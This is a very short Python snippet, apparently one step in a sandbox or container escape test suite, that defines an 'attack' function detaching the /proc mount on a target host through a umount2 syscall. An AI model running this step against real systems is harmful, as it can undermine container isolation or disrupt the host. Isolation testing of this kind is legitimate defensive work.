"""Taking the cover off /proc."""


def attack(host):
    return syscall(host, "umount2", b"/proc", 2)
